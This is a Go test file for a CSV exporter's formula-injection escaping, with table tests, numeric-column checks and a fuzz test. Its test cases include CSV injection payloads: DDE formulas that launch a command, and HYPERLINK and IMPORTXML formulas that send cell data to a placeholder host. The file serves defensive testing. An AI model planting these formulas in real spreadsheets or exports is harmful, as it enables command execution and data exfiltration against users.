package main

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
)

func TestCSVTextIsNoFormula(t *testing.T) {
	const armed, harmless = true, false
	for _, c := range []struct {
		text    string
		formula bool
	}{
		{"=1+1", armed},
		{"=cmd|' /C calc'!A0", armed},
		{`=HYPERLINK("http://x.example/?"&A1,"click")`, armed},
		{`=IMPORTXML(CONCAT("http://x.example/",A1),"//a")`, armed},
		{"=DDE(\"cmd\";\"/C calc\")", armed},
		{"+1+1", armed},
		{"+49 30 1234567", armed},
		{"-1+1", armed},
		{"-3", armed},
		{"--", armed},
		{"@SUM(1+1)", armed},
		{"@someone thanks", armed},
		{"\t=1+1", armed},
		{"\tindented", armed},
		{"\r=1+1", armed},
		{"\n=1+1", armed},
		{"\x00=1+1", armed},
		{"\x01=1+1", armed},
		{" =1+1", armed},
		{"      @SUM(1)", armed},
		{"\u00a0=1+1", armed}, // no-break space
		{"\u3000=1+1", armed}, // ideographic space
		{"\u200b=1+1", armed}, // zero width space
		{"\ufeff=1+1", armed}, // byte order mark
		{"\u202e=1+1", armed}, // right-to-left override
		{"＝1+1", armed},
		{"＋1", armed},
		{"－1", armed},
		{"＠SUM(1)", armed},
		{" ＝1", armed},
		{"﹦1", armed},
		{"−1", armed}, // minus sign
		{" \t=1", armed},
		{" \n=1", armed},

		{"good;=1+1", harmless}, // one cell, because it is quoted
		{"good\t=1+1", harmless},
		{"good\",=1+1", harmless},
		{"good\n=1+1", harmless},
		{"a=1", harmless},
		{"1-1", harmless},
		{"'quoted'", harmless},
		{"  two spaces", harmless},
		{"\u00e9t\u00e9", harmless},
		{"   ", harmless},
		{"#REF!", harmless},
	} {
		cell := csvText(c.text)
		// Separators of other countries must find no cell of their own either.
		for _, comma := range []rune{',', ';', '\t'} {
			read := csv.NewReader(strings.NewReader(cell + string(comma) + `"next"` + "\r\n"))
			read.Comma = comma
			record, err := read.Read()
			if err != nil || len(record) != 2 || record[1] != "next" {
				t.Errorf("%q is read as %q by %q: %v", cell, record, comma, err)
				continue
			}
			want := c.text
			if c.formula {
				want = "'" + want
			}
			if record[0] != want {
				t.Errorf("%q is read as %q by %q, want %q", cell, record[0], comma, want)
			}
			if !c.formula && strings.ContainsAny(record[0][:1], "=+-@\t\r\n\x00") {
				t.Errorf("%q is left armed", record[0])
			}
		}
	}
}

// TestCSVNumbersStayNumbers: a number of a numeric column is written as it is,
// although it begins with a sign that begins a formula.
func TestCSVNumbersStayNumbers(t *testing.T) {
	records := csvOf[feedbackRow](t, feedbackItems())
	if diff := cmp.Diff([]string{"-0.25", "-1", "5"}, records[1][7:10]); diff != "" {
		t.Errorf("score (-want +got):\n%s", diff)
	}
	records = csvOf[responseRow](t, responseItems())
	if diff := cmp.Diff("'-r1", records[1][0]); diff != "" {
		t.Errorf("an id is a text (-want +got):\n%s", diff)
	}
	if diff := cmp.Diff([]string{"1234.5", "0", "9007199254740991", "0", "1", "2", "0.0000001"}, records[1][15:22]); diff != "" {
		t.Errorf("numbers (-want +got):\n%s", diff)
	}
	if diff := cmp.Diff(make([]string, 7), records[2][15:22]); diff != "" {
		t.Errorf("numbers that are not known (-want +got):\n%s", diff)
	}
}

func TestCSVHeaderWithoutRows(t *testing.T) {
	if records := csvOf[responseRow](t, nil); len(records) != 1 || records[0][0] != "response_id" {
		t.Errorf("%q", records)
	}
}

func csvOf[T exportRow](t *testing.T, items []string) [][]string {
	t.Helper()
	var text bytes.Buffer
	out := streamTo(&text)
	sink := newCSVSink[T](out)
	for _, item := range items {
		if err := sink.write([]json.RawMessage{json.RawMessage(item)}); err != nil {
			t.Fatal(err)
		}
	}
	if err := sink.close(); err != nil {
		t.Fatal(err)
	}
	records, err := csv.NewReader(&text).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	return records
}

// FuzzCSVText: whatever a person wrote is one cell, comes back whole, and does
// not begin a formula.
func FuzzCSVText(f *testing.F) {
	f.Add("=1+1")
	f.Add("\" ,;\n＝")
	f.Fuzz(func(t *testing.T, text string) {
		record, err := csv.NewReader(strings.NewReader(csvText(text) + ",end\r\n")).Read()
		if err != nil || len(record) != 2 {
			t.Fatalf("%q is read as %q: %v", text, record, err)
		}
		// The reader makes \n of \r\n.
		want := strings.ReplaceAll(text, "\r\n", "\n")
		if got := strings.TrimPrefix(record[0], "'"); got != strings.TrimPrefix(want, "'") {
			t.Fatalf("%q comes back as %q", text, record[0])
		}
		if startsFormula(record[0]) {
			t.Fatalf("%q begins a formula", record[0])
		}
	})
}
